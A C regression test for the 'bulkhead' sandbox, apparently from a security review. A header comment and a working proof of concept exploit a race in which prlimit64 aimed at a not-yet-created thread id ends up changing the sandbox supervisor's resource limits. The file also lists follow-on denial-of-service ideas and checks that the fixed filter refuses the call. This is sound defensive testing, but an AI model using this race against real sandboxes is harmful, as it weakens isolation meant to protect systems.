// Review 28, attacker model B (the default domain's program counter; any
// system call the filter allows). Review 27's fix sends prlimit64 that
// sets another process's limits to the supervisor, which refuses it when
// the target is a thread id of its own and otherwise answers CONTINUE
// (supervisor.c). A thread id that does not exist yet passes the check
// (ENOENT: "not ours"), and the kernel looks the id up only when the
// caller runs again: if the supervisor makes a thread in between, that
// thread gets the id, and the limits set are the supervisor's. The
// supervisor makes threads on the program's request: an open of a FIFO
// goes on in a thread of its own (supervisor-open.c, hand_over), and
// thread ids are handed out in order.
//
// Here a fork child's main thread T1 and two threads it makes run on one
// CPU, one of them (T3) only spinning: T1 (nice 19, so that it runs last once the supervisor answers
// it) calls prlimit64(N, RLIMIT_NOFILE) with N the next thread id
// (/proc/sys/kernel/ns_last_pid + 1); T2, as soon as T1
// is on its way, opens a FIFO nobody writes. The supervisor answers T1
// (N: no such task, CONTINUE), then takes T2's open and makes a thread for
// it, which gets N; then T1 runs and the kernel sets the limit of the
// process N belongs to: the supervisor's. The parent reads the
// supervisor's limit (a query passes the filter): changed, ATTACK
// SUCCEEDED. A round that loses (T1 ran first: ESRCH; T2's open came
// first: refused, the child dies) is tried again, up to 100 times. The
// control runs the same rounds without the FIFO (no supervisor thread):
// the limit stays.
//
// With the limit in hand the attacker has review 27's position back:
// RLIMIT_NOFILE near its open descriptors (every check that opens
// /proc now refuses: availability), RLIMIT_CPU (SIGXCPU kills the
// supervisor), RLIMIT_NPROC/RLIMIT_AS (no hand-over or learner threads);
// any check that still reads a failed look as "no" is open again (not
// tried: supervisor-filter.c's filter_write and supervisor-keys.c's key
// grant read a failed bh_task_tgid of the process mid-way as "it ended"
// and drop their one-at-a-time lock).
//
// Seen in the guest (filter on, as root, one CPU): ATTACK SUCCEEDED in the
// first round in every run (five before T3 was added, three after); control: the limit unchanged after
// 100 rounds. Not tried on a machine with more CPUs (the spinner is for
// that).
//
// Suggested fix: no CONTINUE: the supervisor makes the call itself, in
// its loop, with the caller's credentials (as it does opens), and answers
// with the result; no thread of its own is born between its check and
// that call, since only the loop makes them (the caller's pid namespace
// is the supervisor's: namespace creation is refused). Or the filter
// refuses prlimit64 with a new limit for every pid but 0.
// Fixed: the filter itself refuses prlimit64 that sets another process's
// limits (pid not 0), with one line; no check, so nothing to outrun.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// RUN: FileCheck %s --check-prefix=DENIED < %t/out
// DENIED: bulkhead: denied: prlimit64({{.*}}) from the default domain — setting another process's resource limits
// CONTROL: supervisor found: 1
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: parent's vault intact: 1
// CHECK: supervisor found: 1
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: parent's vault intact: 1
#include "Inputs/target.h"
#include "Inputs/find-supervisor.h"
#include <pthread.h>
#include <sched.h>
#include <sys/resource.h>
#include <sys/stat.h>

static pid_t supervisor;
static struct rlimit before;
static char fifo[64];
static int with_fifo;
static volatile int go, done;


/* The thread id the kernel hands out next, if nothing else takes it. */
static pid_t next_id(pid_t fallback) {
  char buf[32] = {0};
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  if (fd < 0 || read(fd, buf, sizeof buf - 1) <= 0) {
    if (fd >= 0)
      close(fd);
    return fallback + 1;
  }
  close(fd);
  return (pid_t)atoi(buf) + 1;
}

static void *opener(void *arg) {
  (void)arg;
  while (!go)
    ;
  if (with_fifo)
    open(fifo, O_RDONLY); /* waits in a supervisor thread of its own */
  return NULL;
}

/* Keeps T1's CPU busy, so that T1 (nice 19) runs late once answered, on
 * a machine with more than one CPU too. */
static void *spinner(void *arg) {
  (void)arg;
  while (!done)
    ;
  return NULL;
}

/* One round, in a fork child; exits when T1's call is done. */
static void round_child(void) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(sched_getcpu() < 0 ? 0 : sched_getcpu(), &one);
  sched_setaffinity(0, sizeof one, &one); /* the round's threads: one CPU */
  pthread_t t2, t3;
  pthread_create(&t2, NULL, opener, NULL);
  pthread_create(&t3, NULL, spinner, NULL);
  setpriority(PRIO_PROCESS, (id_t)syscall(SYS_gettid), 19);
  pid_t n = next_id((pid_t)syscall(SYS_gettid) + 1);
  struct rlimit lower = {before.rlim_cur - 1, before.rlim_max};
  go = 1;
  syscall(SYS_prlimit64, n, RLIMIT_NOFILE, &lower, NULL);
  done = 1;
  /* Let the supervisor's FIFO thread go: a writer that does not wait. */
  int w = open(fifo, O_WRONLY | O_NONBLOCK);
  if (w >= 0)
    close(w);
  _exit(0);
}

static int supervisor_changed(void) {
  struct rlimit now;
  return !syscall(SYS_prlimit64, supervisor, RLIMIT_NOFILE, NULL, &now) &&
         now.rlim_cur != before.rlim_cur;
}

static void attack(void) {
  int rounds = 0;
  for (; rounds < 100 && !supervisor_changed(); rounds++) {
    pid_t c = fork();
    if (c == 0)
      round_child();
    waitpid(c, NULL, 0);
  }
  if (supervisor_changed())
    printf("ATTACK SUCCEEDED: the supervisor's RLIMIT_NOFILE set through a "
           "thread id it made after its check (round %d)\n", rounds);
  else
    printf("attack failed: the supervisor's limit unchanged after %d rounds\n",
           rounds);
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 1;
  with_fifo = !strcmp(argv[1], "attack");
  supervisor = find_supervisor();
  printf("supervisor found: %d\n", supervisor > 0);
  if (supervisor <= 0 ||
      syscall(SYS_prlimit64, supervisor, RLIMIT_NOFILE, NULL, &before))
    return 1;
  snprintf(fifo, sizeof fifo, "/tmp/rev28-fifo-%d", (int)getpid());
  unlink(fifo);
  if (mkfifo(fifo, 0600))
    return 1;
  struct attack a[] = {{argv[1], attack}};
  int r = run_attacks(a, 1);
  unlink(fifo);
  return r;
}
